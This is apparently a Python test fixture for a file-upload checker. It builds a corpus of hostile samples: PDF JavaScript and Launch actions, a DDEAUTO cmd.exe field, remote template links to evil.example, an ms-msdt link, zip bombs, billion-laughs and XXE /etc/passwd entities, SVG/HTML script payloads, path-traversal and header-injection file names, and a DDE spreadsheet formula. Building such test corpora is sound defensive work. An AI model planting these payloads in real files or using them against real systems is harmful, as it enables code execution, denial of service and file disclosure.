"""Files made to do harm (F27). Each is refused, or harmless as it is served.

`EXPECTED` is the reason for which the check refuses it; None where it passes and nothing in it can
do harm as an attachment that no browser shows; `SCANNER` where only the scanner knows it.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Final

import pikepdf

from concerns.evidence.clamd import EICAR
from concerns.evidence.refusal import Reason
from tests.unit.evidence.made import (
    message,
    open_document,
    pdf,
    picture,
    relations,
    sheet,
    word,
    zipped,
)

SCANNER: Final = "scanner"


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file. :param make: its content, made when it is asked for."""

    label: str
    name: str
    make: Callable[[], bytes]
    expected: Reason | str | None


def _with_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
    )


def _with_launch(document: pikepdf.Pdf) -> None:
    action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe"))
    document.Root.AA = pikepdf.Dictionary(WC=pikepdf.Dictionary(A=action))


def _with_file(document: pikepdf.Pdf) -> None:
    document.attachments["x.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


def _locked() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="o", user="u"))


def _for_readers_only() -> bytes:
    return pdf(encryption=pikepdf.Encryption(owner="o", user=""))


def _packed_script() -> bytes:
    """The script in a packed stream of objects, its name written in another way."""
    modes = {"object_stream_mode": pikepdf.ObjectStreamMode.generate}
    return pdf(_with_script, **modes)


def _spelt_otherwise() -> bytes:
    return pdf(_with_script).replace(b"/JavaScript", b"/J#61vaScript")


def _flood() -> bytes:
    """A picture of 3,600 million pixels in 100 bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        check = struct.pack("!I", zlib.crc32(kind + data))
        return struct.pack("!I", len(data)) + kind + data + check

    head = struct.pack("!IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 100))
        + chunk(b"IEND", b"")
    )


def _bomb() -> bytes:
    """A part of 300 MB in 300 KB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "wordprocessingml.document.main+xml")
        with archive.open("word/media/image1.png", "w", force_zip64=True) as part:
            for _ in range(300):
                part.write(b"\0" * 1_000_000)
    return out.getvalue()


def _lying_bomb() -> bytes:
    """The same, saying of itself that it holds little."""
    data = bytearray(_bomb())
    where = data.rfind(b"word/media/image1.png") - 46
    struct.pack_into("<I", data, where + 24, 1000)  # the size in the directory
    return bytes(data)


def _many() -> bytes:
    return word({f"word/media/{n}.xml": b"" for n in range(1_200)})


def _external(*targets: tuple[str, str]) -> bytes:
    return word({"word/_rels/document.xml.rels": relations(*targets)})


DDE = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText>'
    "</w:r></w:p></w:body></w:document>"
)
BILLION = (
    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">&b;'
    "</Relationships>"
)
XXE = BILLION.replace('"aaaaaaaaaa"', 'SYSTEM "file:///etc/passwd"')
MACRO_TYPES = "<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<html><script>alert(1)</script></html>"
EXE = b"MZ\x90\0" + b"\0" * 100
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600

CORPUS: tuple[Hostile, ...] = tuple(
    Hostile(*each)
    for each in (
        # ---- by its name
        ("svg", "a.svg", lambda: SVG, Reason.KIND),
        ("html", "a.html", lambda: HTML, Reason.KIND),
        ("zip", "a.zip", lambda: zipped({"a.txt": "a"}), Reason.KIND),
        ("macro file by its name", "a.docm", word, Reason.KIND),
        ("program", "a.exe", lambda: EXE, Reason.KIND),
        ("two endings, the last a program's", "a.pdf.exe", pdf, Reason.KIND),
        ("written from right to left", "report\u202efdp.exe", lambda: EXE, Reason.KIND),
        ("no ending", "evidence", pdf, Reason.KIND),
        ("nothing but an ending", ".pdf", pdf, Reason.KIND),
        ("NUL before another ending", "a.exe\0.pdf", lambda: EXE, Reason.CONTENT),
        # ---- by what it begins with
        ("html as a picture", "a.png", lambda: HTML, Reason.CONTENT),
        ("svg as a picture", "a.jpg", lambda: SVG, Reason.CONTENT),
        ("program as a text", "a.txt", lambda: EXE, Reason.CONTENT),
        ("program as a PDF", "a.pdf", lambda: EXE, Reason.CONTENT),
        ("picture that is a PDF too", "a.pdf", lambda: b"GIF89a" + pdf(), Reason.CONTENT),
        ("picture with an archive after it", "a.png",
         lambda: picture() + zipped({"a.exe": EXE}), Reason.EMBEDDED),
        ("PDF with an archive after it", "a.pdf",
         lambda: pdf() + zipped({"a.exe": EXE}), Reason.EMBEDDED),
        ("picture of another kind", "a.png", lambda: picture("JPEG"), Reason.CONTENT),
        ("sheet as a document", "a.docx", sheet, Reason.CONTENT),
        ("archive as a document", "a.docx", lambda: zipped({"a": "a"}), Reason.CONTENT),
        ("old Office file as a new one", "a.docx", lambda: OLE, Reason.CONTENT),
        ("locked document", "a.docx",
         lambda: OLE + "EncryptedPackage".encode("utf-16-le"), Reason.LOCKED),
        # ---- documents
        ("macros in a document", "a.docx",
         lambda: word({"word/vbaProject.bin": b"x"}), Reason.ACTIVE),
        ("macro document renamed", "a.docx",
         lambda: word({"[Content_Types].xml": MACRO_TYPES}), Reason.ACTIVE),
        ("macros of the old kind", "a.xlsx",
         lambda: sheet({"xl/macrosheets/sheet1.xml": "<a/>"}), Reason.ACTIVE),
        ("field that starts a program", "a.docx",
         lambda: word({"word/document.xml": DDE}), Reason.ACTIVE),
        ("template from elsewhere", "a.docx",
         lambda: _external(("attachedTemplate", "https://evil.example/t.dotm")), Reason.EXTERNAL),
        ("link to a program", "a.docx",
         lambda: _external(("hyperlink", "ms-msdt:/id PCWDiagnostic")), Reason.EXTERNAL),
        ("link to another machine", "a.docx",
         lambda: _external(("hyperlink", "file://///evil.example/a")), Reason.EXTERNAL),
        ("archive inside", "a.docx",
         lambda: word({"word/embeddings/a.zip": zipped({"a": "a"})}), Reason.EMBEDDED),
        ("document inside", "a.xlsx",
         lambda: sheet({"xl/embeddings/a.bin": word()}), Reason.EMBEDDED),
        ("program inside", "a.docx", lambda: word({"word/media/a.png": EXE}), Reason.EMBEDDED),
        ("zip bomb", "a.docx", _bomb, Reason.UNPACKS),
        ("zip bomb that says it is small", "a.docx", _lying_bomb, Reason.DAMAGED),
        ("too many parts", "a.docx", _many, Reason.UNPACKS),
        ("entities that grow", "a.docx",
         lambda: word({"word/_rels/document.xml.rels": BILLION}), Reason.DAMAGED),
        ("entity from a file", "a.docx",
         lambda: word({"word/_rels/document.xml.rels": XXE}), Reason.DAMAGED),
        ("broken document", "a.docx", lambda: word()[:2_000], Reason.DAMAGED),
        ("macros in an OpenDocument", "a.odt",
         lambda: open_document(more={"Basic/Standard/m.xml": "<a/>"}), Reason.ACTIVE),
        ("OpenDocument that listens", "a.odt",
         lambda: open_document("<script:event-listener/>"), Reason.ACTIVE),
        ("OpenDocument that fetches", "a.odt",
         lambda: open_document('<draw:image xlink:href="https://evil.example/a.png"/>'),
         Reason.EXTERNAL),
        # ---- PDF
        ("locked PDF", "a.pdf", _locked, Reason.LOCKED),
        ("PDF for readers only", "a.pdf", _for_readers_only, Reason.LOCKED),
        ("PDF with a script", "a.pdf", lambda: pdf(_with_script), Reason.ACTIVE),
        ("script in a packed stream", "a.pdf", _packed_script, Reason.ACTIVE),
        ("script spelt otherwise", "a.pdf", _spelt_otherwise, Reason.ACTIVE),
        ("PDF that starts a program", "a.pdf", lambda: pdf(_with_launch), Reason.ACTIVE),
        ("PDF with a file", "a.pdf", lambda: pdf(_with_file), Reason.EMBEDDED),
        ("only the head of a PDF", "a.pdf", lambda: b"%PDF-1.7\n" + b"x" * 500, Reason.DAMAGED),
        # ---- pictures
        ("flood of pixels", "a.png", _flood, Reason.PIXELS),
        ("truncated picture", "a.jpg", lambda: picture("JPEG", (400, 400))[:700], Reason.DAMAGED),
        ("only the head of a picture", "a.png", lambda: picture()[:20], Reason.DAMAGED),
        # ---- messages
        ("message with a program", "a.eml", lambda: message(("a.exe", EXE)), Reason.EMBEDDED),
        ("message with a lying file", "a.eml", lambda: message(("a.pdf", EXE)), Reason.EMBEDDED),
        ("message with a script", "a.eml",
         lambda: message(("a.pdf", pdf(_with_script))), Reason.ACTIVE),
        ("text as a message", "a.eml", lambda: b"hello", Reason.CONTENT),
        # ---- size
        ("nothing", "a.txt", lambda: b"", Reason.EMPTY),
        ("too large", "a.txt", lambda: b"a" * 20_000_001, Reason.TOO_LARGE),
        # ---- what passes, and harms nobody as it is served
        ("html as a text", "a.txt", lambda: HTML, None),
        ("program's name before a PDF's", "a.exe.pdf", pdf, None),
        ("path to elsewhere", "../../../etc/passwd.txt", lambda: b"words", None),
        ("path of another system", "..\\..\\boot.txt", lambda: b"words", None),
        ("name of 1 MB", "a" * 1_000_000 + ".txt", lambda: b"words", None),
        ("name that would write a header", 'a"\r\nSet-Cookie: x=y.txt', lambda: b"words", None),
        ("name in markup", "<img src=x onerror=alert(1)>.txt", lambda: b"words", None),
        ("formula", "a.txt", lambda: b"=cmd|'/k calc'!A1", None),
        # ---- what only the scanner knows
        ("virus in a text", "a.txt", lambda: EICAR, SCANNER),
        ("virus in a document", "a.docx", lambda: word({"word/media/x.bin": EICAR}), SCANNER),
    )
)  # fmt: skip
